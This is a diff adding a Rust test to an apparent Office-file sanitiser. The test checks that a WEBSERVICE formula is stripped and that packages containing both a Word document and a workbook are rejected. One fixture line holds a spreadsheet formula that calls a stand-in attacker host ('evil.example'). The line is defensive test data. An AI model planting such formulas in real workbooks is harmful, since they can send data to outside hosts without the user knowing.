@@ -315,6 +315,58 @@ async fn a_workbook_is_in_order_after_all_that_runs_or_loads_went_out_of_it() {
 }
 
 #[tokio::test]
+async fn a_package_with_two_documents_is_neither() {
+    let formula = "<sheetData><row r=\"1\"><c r=\"A1\"><f>_xlfn.WEBSERVICE(\"http://evil.example/\")</f><v>1</v></c></row></sheetData>";
+    let book = office::book_without(&["一"], &[], "", formula, &[], &[]);
+    let alone = made(&book, Kind::Xlsx, &[Part::Formula]).await;
+    assert!(!text(&alone, "xl/worksheets/sheet1.xml").contains("WEBSERVICE"));
+
+    const WORD: &[u8] = b"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body/></w:document>";
+    let with = |root: &str, of_word: Option<&str>| {
+        let mut parts = unpack(&book);
+        for (name, bytes) in &mut parts {
+            if name == "[Content_Types].xml" {
+                let more = format!(
+                    "<Override PartName=\"/word/document.xml\" ContentType=\"{OFFICE}.wordprocessingml.document.main+xml\"/></Types>"
+                );
+                *bytes = String::from_utf8(bytes.clone()).unwrap().replace("</Types>", &more).into_bytes();
+            } else if name == "_rels/.rels" {
+                let all = format!(
+                    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{root}</Relationships>"
+                );
+                *bytes = all.into_bytes();
+            }
+        }
+        parts.push(("word/document.xml".to_owned(), WORD.to_vec()));
+        if let Some(kind) = of_word {
+            parts.push(of("word/document.xml", &[("rId1", kind, "../xl/workbook.xml", false)]));
+        }
+        office::pack(&parts)
+    };
+    let relation = |id: u8, kind: &str, target: &str| {
+        format!("<Relationship Id=\"rId{id}\" Type=\"{kind}\" Target=\"{target}\"/>")
+    };
+    let known = format!("{RELATIONS}/officeDocument");
+    let strict = "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument";
+    let (word, excel) = ("word/document.xml", "xl/workbook.xml");
+    for (root, of_word) in [
+        (relation(1, &known, word) + &relation(2, &known, excel), None),
+        (relation(1, &known, excel) + &relation(2, &known, word), None),
+        (relation(1, strict, word) + &relation(2, &known, excel), None),
+        (relation(1, "http://x.example/officeDocument", word) + &relation(2, &known, excel), None),
+        (relation(1, &known, word) + &relation(2, "http://x.example/OfficeDocument", excel), None),
+        (relation(1, &known, word), Some("officeDocument")),
+        // By whatever relationship it is reached.
+        (relation(1, &known, word), Some("worksheet")),
+    ] {
+        let outcome = sanitise(&with(&root, of_word), None).await;
+        assert_eq!(reason(&outcome), Some(Reason::TwoTypes), "{root} {of_word:?}");
+    }
+    let strange = with(&relation(1, "http://x.example/officeDocument", excel), None);
+    assert_eq!(reason(&sanitise(&strange, None).await), Some(Reason::TwoTypes));
+}
+
+#[tokio::test]
 async fn a_rule_or_a_check_of_a_cell_goes_as_a_whole_with_a_formula_of_another_book() {
     let x14 = "xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" \
         xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"";
